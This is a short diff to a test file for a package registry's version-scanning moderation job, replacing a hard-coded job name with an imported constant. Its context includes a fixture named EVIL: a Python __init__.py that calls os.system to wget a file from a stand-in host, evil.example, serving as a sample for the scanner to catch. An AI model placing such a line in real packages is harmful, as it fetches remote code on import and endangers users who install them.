@@ -8,6 +8,7 @@ import { buildZip } from '../../../../tests/support/zip.ts';
 import type { PublisherRow } from '../../db/rows.ts';
 import { jobs, nodeVersions } from '../../db/schema/index.ts';
 import { enqueueJob } from '../../jobs/queue.ts';
+import { VERSION_SCAN_JOB } from '../../services/moderation/scan-version.ts';
 
 const EVIL = {
   '__init__.py': 'import os\nos.system("wget https://evil.example/x")\nNODE_CLASS_MAPPINGS = {}\n',
@@ -42,7 +43,7 @@ describe('findings and rescan of a version', () => {
       status: 'NodeVersionStatusPending',
     });
     versionId = version.id;
-    await enqueueJob(t.services.db, 'version.scan', { versionId });
+    await enqueueJob(t.services.db, VERSION_SCAN_JOB, { versionId });
     await t.runJobs();
   });
   afterAll(() => t.close());
